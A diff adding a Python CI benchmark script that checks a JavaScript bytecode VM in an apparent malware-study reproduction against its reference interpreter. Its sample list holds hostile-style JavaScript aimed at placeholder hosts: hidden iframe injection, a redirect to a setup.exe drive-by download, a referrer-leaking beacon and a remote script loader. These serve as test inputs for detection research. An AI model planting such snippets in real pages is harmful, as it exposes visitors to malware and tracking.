@@ -1,0 +1,210 @@
+#!/usr/bin/env python3
+"""JS bytecode-VM speedup + parity gate (CI ``vm-speedup`` job).
+
+Enforces the two properties the ``repro.jsengine.vm`` backend must
+keep, both measured deterministically:
+
+1. **Bit-identical results**: the pinned-seed study's per-URL verdict
+   map and its full telemetry report (``repro.obs.build_run_report``)
+   must match between the ``ast`` reference backend and the ``vm``
+   backend — serial *and* at ``--workers`` wide.  The VM charges the
+   walker's tick count per instruction (fused into per-op weights), so
+   every step count, gauge, histogram, and budget trip must land on
+   the same values; any drift fails the gate.
+2. **Step reduction on hot templated scripts**: over a pinned corpus
+   of obfuscated templated payloads (the repo's own
+   ``repro.malware.obfuscation`` layers — the scripts exchange pages
+   actually serve), the walker's simulated steps divided by the
+   instructions the VM dispatched must reach ``--min-speedup``
+   (default 2.0).  The win comes from compile-time constant folding:
+   an ``eval(String.fromCharCode(...))`` decode layer that costs the
+   walker one step per character collapses to a handful of ops whose
+   weights still charge every fused tick.
+
+Both measures live on simulated counters, so runner speed never
+enters.  Regenerate ``benchmarks/BENCH_vm.json`` after intentional
+changes with ``--write``.  Requires ``PYTHONPATH=src``.
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import random
+import sys
+
+DEFAULT_BENCH = "benchmarks/BENCH_vm.json"
+
+#: short templated payloads modeled on what simweb's generated pages
+#: embed: redirect stubs, iframe injection, popups, beacon loaders
+CORPUS_PAYLOADS = [
+    'window.location = "http://landing.example/offer?id=17";',
+    'document.write("<iframe src=\'http://ads.example/fr\' width=1 '
+    'height=1></iframe>");',
+    'var u = "http://cdn.example/" + "drop" + "/setup.exe"; '
+    'window.location = u;',
+    'window.open("http://pop.example/win", "_blank");',
+    'var img = new Image(); img.src = "http://t.example/px?r=" + '
+    'document.referrer;',
+    'var parts = ["http://", "mal", ".example/", "p.js"]; '
+    'var s = document.createElement("script"); '
+    's.src = parts.join(""); document.body.appendChild(s);',
+]
+
+
+def run_study(seed: int, scale: float, workers: int, js_backend: str):
+    from repro import MalwareSlumsStudy, StudyConfig
+    from repro.crawler import CrawlPipeline, PipelineOptions
+    from repro.obs import RunObserver, build_run_report
+
+    study = MalwareSlumsStudy(StudyConfig(seed=seed, scale=scale))
+    web = study.generate_web()
+    observer = RunObserver()
+    pipeline = CrawlPipeline(web, PipelineOptions(
+        seed=seed + 61, observer=observer, workers=workers,
+        js_backend=js_backend))
+    outcome = pipeline.run()
+    verdicts = {url: v.malicious for url, v in outcome.verdicts.items()}
+    report = build_run_report(pipeline, outcome)
+    return verdicts, report
+
+
+def build_corpus(corpus_seed: int, cases: int):
+    """Deterministic obfuscated-script corpus off the pinned seed."""
+    from repro.malware.obfuscation import obfuscate, random_layers
+
+    rng = random.Random(corpus_seed)
+    corpus = []
+    for index in range(cases):
+        payload = CORPUS_PAYLOADS[index % len(CORPUS_PAYLOADS)]
+        depth = 1 + rng.randrange(3)
+        corpus.append(obfuscate(payload, random_layers(rng, depth), rng))
+    return corpus
+
+
+def measure_corpus(corpus):
+    """Run every corpus script under both backends; steps must agree.
+
+    Returns (summary, failures).  ``step_reduction`` is walker steps
+    over VM dispatched instructions — the deterministic analogue of
+    "how much less work does the dispatch loop do".
+    """
+    from repro.jsengine import run_script_in_page
+
+    ast_steps = 0
+    vm_steps = 0
+    vm_ops = 0
+    failures = []
+    for index, source in enumerate(corpus):
+        page = "<html><body><script>%s</script></body></html>" % source
+        ast_host = run_script_in_page(page, js_backend="ast")
+        vm_host = run_script_in_page(page, js_backend="vm")
+        if ast_host.interpreter.steps != vm_host.interpreter.steps:
+            failures.append(
+                "corpus[%d]: step divergence (ast %d, vm %d)"
+                % (index, ast_host.interpreter.steps,
+                   vm_host.interpreter.steps))
+        if ast_host.log.errors != vm_host.log.errors:
+            failures.append("corpus[%d]: error divergence" % index)
+        ast_steps += ast_host.interpreter.steps
+        vm_steps += vm_host.interpreter.steps
+        vm_ops += vm_host.interpreter.ops
+    summary = {
+        "cases": len(corpus),
+        "ast_steps": ast_steps,
+        "vm_steps": vm_steps,
+        "vm_ops": vm_ops,
+        "step_reduction": round(ast_steps / vm_ops, 4) if vm_ops else 0.0,
+    }
+    return summary, failures
+
+
+def measure(seed: int, scale: float, workers: int, corpus_seed: int,
+            cases: int):
+    failures = []
+
+    ast_verdicts, ast_report = run_study(seed, scale, 1, "ast")
+    vm_verdicts, vm_report = run_study(seed, scale, 1, "vm")
+    if ast_verdicts != vm_verdicts:
+        failures.append("serial vm verdict map differs from ast")
+    if ast_report != vm_report:
+        failures.append("serial vm telemetry report differs from ast")
+
+    vm_par_verdicts, vm_par_report = run_study(seed, scale, workers, "vm")
+    if vm_par_verdicts != ast_verdicts:
+        failures.append("workers=%d vm verdict map differs from ast serial"
+                        % workers)
+
+    corpus, corpus_failures = measure_corpus(build_corpus(corpus_seed, cases))
+    failures.extend(corpus_failures)
+
+    summary = {
+        "meta": {"seed": seed, "scale": scale, "workers": workers,
+                 "corpus_seed": corpus_seed, "cases": cases},
+        "verdicts": {
+            "malicious": sum(1 for v in ast_verdicts.values() if v),
+            "benign": sum(1 for v in ast_verdicts.values() if not v),
+        },
+        "corpus": corpus,
+    }
+    return summary, failures
+
+
+def main() -> int:
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--bench", default=DEFAULT_BENCH)
+    parser.add_argument("--seed", type=int, default=2016)
+    parser.add_argument("--scale", type=float, default=0.01)
+    parser.add_argument("--workers", type=int, default=4)
+    parser.add_argument("--corpus-seed", type=int, default=2016)
+    parser.add_argument("--cases", type=int, default=60)
+    parser.add_argument("--min-speedup", type=float, default=2.0,
+                        help="corpus step-reduction floor: walker steps "
+                             "over vm dispatched ops (default 2.0)")
+    parser.add_argument("--write", action="store_true",
+                        help="write the measured summary as the new "
+                             "bench artifact")
+    args = parser.parse_args()
+
+    summary, failures = measure(args.seed, args.scale, args.workers,
+                                args.corpus_seed, args.cases)
+    print(json.dumps(summary, indent=2, sort_keys=True))
+    reduction = summary["corpus"]["step_reduction"]
+    if reduction < args.min_speedup:
+        failures.append("corpus step reduction %.2fx below the %.2fx floor"
+                        % (reduction, args.min_speedup))
+    if failures:
+        for failure in failures:
+            print("FAIL: %s" % failure, file=sys.stderr)
+        return 1
+
+    if args.write:
+        with open(args.bench, "w", encoding="utf-8") as handle:
+            json.dump(summary, handle, indent=2, sort_keys=True)
+            handle.write("\n")
+        print("wrote bench artifact to %s" % args.bench)
+        return 0
+
+    with open(args.bench, "r", encoding="utf-8") as handle:
+        bench = json.load(handle)
+    if bench["meta"] != summary["meta"]:
+        print("FAIL: bench meta %r != run meta %r"
+              % (bench["meta"], summary["meta"]), file=sys.stderr)
+        return 1
+    if bench["verdicts"] != summary["verdicts"]:
+        print("FAIL: verdict totals changed: bench %r, run %r"
+              % (bench["verdicts"], summary["verdicts"]), file=sys.stderr)
+        return 1
+    if bench["corpus"] != summary["corpus"]:
+        print("FAIL: corpus measurements drifted: bench %r, run %r"
+              % (bench["corpus"], summary["corpus"]), file=sys.stderr)
+        return 1
+    print("vm step reduction %.2fx on %d templated scripts (floor %.2fx); "
+          "verdicts + telemetry bit-identical to ast, serial and workers=%d"
+          % (reduction, summary["corpus"]["cases"], args.min_speedup,
+             args.workers))
+    return 0
+
+
+if __name__ == "__main__":
+    raise SystemExit(main())
